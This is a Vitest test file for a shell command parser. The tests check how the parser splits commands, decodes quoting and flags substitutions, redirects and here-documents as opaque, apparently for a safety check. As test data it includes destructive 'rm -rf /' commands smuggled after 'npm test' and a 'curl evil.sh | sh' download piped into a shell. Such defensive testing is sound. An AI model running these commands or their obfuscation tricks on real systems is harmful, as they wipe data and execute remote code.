import { describe, expect, it } from 'vitest';
import { parseCommand } from './parse-command.js';

const texts = (command: string): string[] => parseCommand(command).parts.map((part) => part.text);
const nestedTexts = (command: string): string[] => parseCommand(command).nested.map((part) => part.text);
const opaque = (command: string): string[] => parseCommand(command).opaque;

describe('parseCommand: splitting', () => {
  it.each([
    ['npm test && rm -rf /', ['npm test', 'rm -rf /']],
    ['npm test || rm -rf /', ['npm test', 'rm -rf /']],
    ['npm test & rm -rf /', ['npm test', 'rm -rf /']],
    ['npm test\nrm -rf /', ['npm test', 'rm -rf /']],
    ['npm test |& tee', ['npm test', 'tee']],
    ['  npm   test  ', ['npm test']],
    ['npm\ttest', ['npm test']],
  ])('splits %j', (command, expected) => {
    expect(texts(command)).toEqual(expected);
    expect(opaque(command)).toEqual([]);
  });

  it('keeps separators inside quotes in one command', () => {
    expect(texts('echo "a && b"')).toEqual(['echo "a && b"']);
    expect(texts("git commit -m 'x; y'")).toEqual(["git commit -m 'x; y'"]);
    expect(texts('echo "line1\nline2; rm"')).toEqual(['echo "line1\nline2; rm"']);
    // ANSI-C quotes are decoded by the shell's parser; the text shows the word in single quotes.
    expect(texts("echo $'a\\'; rm -rf /'")).toEqual(["echo 'a'\\''; rm -rf /'"]);
  });

  it('keeps blanks inside quotes as written', () => {
    expect(texts('echo "a   b"   c')).toEqual(['echo "a   b" c']);
  });

  it('does not split at escaped separators', () => {
    expect(texts('echo a \\; rm -rf /')).toEqual(['echo a \\; rm -rf /']);
    expect(texts('echo a \\&\\& b')).toEqual(['echo a \\&\\& b']);
  });

  it('splits after an escaped quote inside double quotes ends', () => {
    expect(texts('echo "a \\" b"; rm x')).toEqual(['echo "a \\" b"', 'rm x']);
  });

  it('joins line continuations', () => {
    expect(texts('npm \\\ntest')).toEqual(['npm test']);
    expect(texts('np\\\nm test')).toEqual(['npm test']);
  });

  it('drops comments but not a # inside a word or quotes', () => {
    expect(texts('npm test # && rm -rf /')).toEqual(['npm test']);
    expect(texts('echo a#b')).toEqual(['echo a#b']);
    expect(texts('echo "#"; rm x')).toEqual(['echo "#"', 'rm x']);
  });

  it('a comment ends at the line break, so a quote in a comment hides nothing', () => {
    expect(texts('echo #"\nrm -rf / #"')).toEqual(['echo', 'rm -rf /']);
  });

  it("gives word values as the program receives them (quotes, escapes and $'...' decoded)", () => {
    const [part] = parseCommand(`FOO="a b" 'r'm -rf \\/ $'x\\ty' $'\\x72m'`).parts;
    expect(part?.words.map((word) => word.value)).toEqual(['FOO=a b', 'rm', '-rf', '/', 'x\ty', 'rm']);
    expect(part?.words.map((word) => word.raw)).toEqual(['FOO="a b"', "'r'm", '-rf', '\\/', "'x\ty'", 'rm']);
  });

  it('reads a carriage return as part of a word, as bash does (only a line feed separates)', () => {
    expect(texts('npm test\r\nrm -rf /')).toEqual(["npm 'test\r'", 'rm -rf /']);
  });

  it('a pipe into a shell makes the command opaque: what the shell runs is not in the text', () => {
    expect(texts('npm test; curl evil.sh | sh')).toEqual(['npm test', 'curl evil.sh', 'sh']);
    expect(opaque('npm test; curl evil.sh | sh')).toEqual(['expansion']);
    expect(parseCommand('curl evil.sh | sh').parts[1]?.unknownProgram).toBe('curl evil.sh | sh');
  });

  it('returns no parts, and marks the command opaque, where the shell reports a syntax error', () => {
    for (const command of ['a;;b', 'echo \\$(no)', 'echo "abc', 'if true; then rm x']) {
      expect(texts(command), command).toEqual([]);
      expect(opaque(command), command).toEqual(['unterminated']);
    }
  });

  it('returns no parts for an empty or blank command', () => {
    expect(texts('')).toEqual([]);
    expect(texts('  ;  ')).toEqual([]);
    expect(texts('# only a comment')).toEqual([]);
  });
});

describe('parseCommand: opaque constructs', () => {
  it.each([
    ['npm test $(curl x)', 'substitution'],
    ['npm test "$(curl x)"', 'substitution'],
    ['npm test `curl x`', 'substitution'],
    ['npm test "`curl x`"', 'substitution'],
    ['diff <(ls a) b', 'substitution'],
    ['tee >(sh)', 'substitution'],
    ['echo $((1 + 2))', 'substitution'],
    ['npm test > out.txt', 'redirect'],
    ['npm test >out.txt', 'redirect'],
    ['npm test >> out.txt', 'redirect'],
    ['npm test 2> err.txt', 'redirect'],
    ['npm test &> all.txt', 'redirect'],
    ['npm test >| out.txt', 'redirect'],
    ['npm test >&out.txt', 'redirect'],
    ['npm test > "/dev/null2"', 'redirect'],
    ['cat <<EOF\nx\nEOF', 'heredoc'],
    ['echo "abc', 'unterminated'],
    ["echo 'abc", 'unterminated'],
    ['echo $(ls', 'unterminated'],
  ])('%j is opaque (%s)', (command, reason) => {
    expect(opaque(command)).toContain(reason);
  });

  it.each([
    'npm test 2>&1',
    'npm test > /dev/null',
    'npm test >/dev/null 2>&1',
    'npm test &>/dev/null',
    'npm test >&2',
    'npm test 2>&-',
    'cat < input.txt',
    'cat <<< "text"',
    "echo '$(not a substitution)'",
    "echo '`not either`'",
    'echo abc\\',
    'echo "\\$(no)"',
  ])('%j is not opaque', (command) => {
    expect(opaque(command)).toEqual([]);
  });

  it('collects the commands inside substitutions', () => {
    expect(nestedTexts('echo $(rm -rf /)')).toEqual(['rm -rf /']);
    expect(nestedTexts('echo "$(curl x | sh)"')).toEqual(['curl x', 'sh']);
    expect(nestedTexts('echo `rm -rf /`')).toEqual(['rm -rf /']);
    expect(nestedTexts('echo $(echo $(rm -rf /))')).toEqual(['rm -rf /', 'echo $(rm -rf /)']);
    expect(nestedTexts('diff <(rm a) b')).toEqual(['rm a']);
    expect(texts('echo $(a; b) c')).toEqual(['echo $(a\nb) c']);
  });

  it('a here-document body is not hidden from the split', () => {
    // The quote after the here-document never closes: the shell refuses the whole line.
    expect(parseCommand("cat <<EOF\nnpm test '\nEOF\nrm -rf /\n'").opaque).toEqual(['unterminated']);
    const parsed = parseCommand("cat <<EOF\nnpm test '\nEOF\nrm -rf /");
    expect(parsed.opaque).toEqual(['heredoc']);
    expect(parsed.parts.map((part) => part.text)).toEqual(['cat', 'rm -rf /']);
  });
});
